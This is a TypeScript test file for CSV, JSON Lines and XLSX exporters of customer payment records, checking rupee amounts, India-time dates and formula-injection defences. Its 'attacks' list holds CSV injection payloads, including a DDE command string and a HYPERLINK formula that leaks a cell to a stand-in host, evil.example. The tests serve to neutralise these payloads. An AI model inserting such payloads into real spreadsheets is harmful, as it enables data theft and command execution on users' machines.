import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { csvFile } from './csv-file.ts';
import { csvLine, csvNumber, looksLikeFormula } from './csv-text.ts';
import { jsonLinesFile } from './json-lines-file.ts';
import type { ExportColumn, ExportRow } from './sources.ts';
import { xlsxFile } from './xlsx-file.ts';

const columns: readonly ExportColumn[] = [
  { name: 'customerName', type: 'text' },
  { name: 'customerPhone', type: 'text' },
  { name: 'pincode', type: 'text' },
  { name: 'amountPaise', type: 'paise' },
  { name: 'instalmentNo', type: 'count' },
  { name: 'confirmedAt', type: 'moment' },
  { name: 'dueOn', type: 'day' },
];
const row = (name: string): ExportRow => [
  ...[name, '+919812345678', '012345', -12_345_650, 7, '2026-11-22T18:30:05.000Z', '2026-11-22'],
];
async function* batches(rows: readonly ExportRow[], each = 2) {
  for (let from = 0; from < rows.length; from += each) yield await Promise.resolve(rows.slice(from, from + each));
}
async function all(pieces: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const held: Buffer[] = [];
  for await (const piece of pieces) held.push(Buffer.from(piece as string));
  return Buffer.concat(held);
}

/** What spreadsheets have run, or may: OWASP's list of CSV injection, and ways around naive checks. */
const attacks = [
  ...['=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', '+1+1', '-1+1', '@SUM(1+1)'],
  ...['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', '|calc', '%0A=1+1'],
];

describe('CSV', () => {
  test.for(attacks)('%j begins with an apostrophe', (attack) => {
    const [[cell = ''] = []] = parse(csvLine([attack])) as string[][];
    expect(cell).toBe(`'${attack}`);
    expect(looksLikeFormula(cell)).toBe(false);
  });

  test.for(['Asha Devi', "O'Brien", 'a=b', '5-6', 'आशा देवी', '', 'x, "y"\r\nz', ' padded '])(
    '%j stays as it is',
    (text) => {
      expect(parse(csvLine([text, 'end']))).toEqual([[text, 'end']]);
    },
  );

  test('numbers stay numbers, also below zero; what only says that it is one is refused', () => {
    expect(csvLine([-5, csvNumber('-5.50'), null])).toBe('-5,-5.50,\r\n');
    for (const digits of ['=1', '1e5', '', '5 ', '--5']) expect(() => csvNumber(digits)).toThrow(RangeError);
  });

  test('people read rupees, India’s time, and headings with units', async () => {
    const text = (await all(csvFile(columns, batches([row('Asha')])))).toString();
    expect(text.startsWith('\ufeff')).toBe(true);
    expect(parse(text, { bom: true })).toEqual([
      [
        'customer name',
        'customer phone',
        'pincode',
        'amount (rupees)',
        'instalment no',
        'confirmed at (India time)',
        'due on',
      ],
      ['Asha', "'+919812345678", '012345', '-123456.50', '7', '2026-11-23 00:00:05', '2026-11-22'],
    ]);
  });
});

test('JSON Lines has the values as they are, under their own names', async () => {
  const text = (await all(jsonLinesFile(columns, batches([row('=1+1'), row('b')])))).toString();
  expect(
    text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as unknown),
  ).toEqual([
    {
      ...{ customerName: '=1+1', customerPhone: '+919812345678', pincode: '012345', amountPaise: -12_345_650 },
      ...{ instalmentNo: 7, confirmedAt: '2026-11-22T18:30:05.000Z', dueOn: '2026-11-22' },
    },
    expect.objectContaining({ customerName: 'b' }),
  ]);
});

describe('XLSX', () => {
  const open = async (rows: readonly ExportRow[], mostRows?: number) =>
    Object.fromEntries(
      Object.entries(unzipSync(await all(xlsxFile(columns, batches(rows), mostRows)))).map(([path, bytes]) => [
        path,
        strFromU8(bytes),
      ]),
    );

  test('text is text, marked where it looks like a formula, and there is no formula anywhere', async () => {
    const { 'xl/worksheets/sheet1.xml': sheet = '' } = await open(attacks.map(row));
    expect(sheet).not.toMatch(/<f[ >]/);
    const names = [...sheet.matchAll(/<c r="A(\d+)" s="(\d)" t="(\w+)">/g)].slice(1);
    expect(names).toHaveLength(attacks.length);
    for (const [, , style, type] of names) expect([style, type]).toEqual(['3', 'inlineStr']);
    expect(sheet).toContain('<c r="B2" s="3" t="inlineStr"><is><t xml:space="preserve">+919812345678</t></is></c>');
    expect(sheet).toContain('<c r="C2" s="2" t="inlineStr"><is><t xml:space="preserve">012345</t></is></c>');
  });

  test('amounts are numbers, days and times are Excel’s', async () => {
    const { 'xl/worksheets/sheet1.xml': sheet = '' } = await open([row('Asha')]);
    expect(sheet).toContain('<c r="D2" s="4"><v>-123456.5</v></c><c r="E2" s="5"><v>7</v></c>');
    // 2026-11-23 00:00:05 and 2026-11-22: Excel's days 46349 and 46348.
    expect(sheet).toMatch(/<c r="F2" s="6"><v>46349\.0000578\d+<\/v><\/c><c r="G2" s="7"><v>46348<\/v><\/c>/);
  });

  test('what XML cannot hold does not break the file', async () => {
    const { 'xl/worksheets/sheet1.xml': sheet = '' } = await open([row('a<b>&"\u0001\r_x0041_\ud800\uffff')]);
    expect(sheet).toContain('>a&lt;b&gt;&amp;"_x0001__x000D__x005F_x0041_\ufffd_xFFFF_</t>');
  });

  test('beyond the limit of rows the next sheet begins, with its heading', async () => {
    const files = await open(
      Array.from({ length: 7 }, (_, at) => row(`n${at}`)),
      4,
    );
    expect(
      Object.keys(files)
        .filter((path) => path.includes('worksheets'))
        .toSorted(),
    ).toEqual([...['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml', 'xl/worksheets/sheet3.xml']]);
    expect(files['xl/worksheets/sheet3.xml']).toContain('n6');
    expect(files['xl/workbook.xml']).toContain('<sheet name="Rows 3" sheetId="3" r:id="rId3"/>');
    const all6 = Object.values(files).join('');
    for (let at = 0; at < 7; at++) expect(all6.split(`>n${at}<`)).toHaveLength(2);
  });

  test('without rows it is a heading', async () => {
    const { 'xl/worksheets/sheet1.xml': sheet = '' } = await open([]);
    expect(sheet.match(/<row /g)).toHaveLength(1);
  });
});
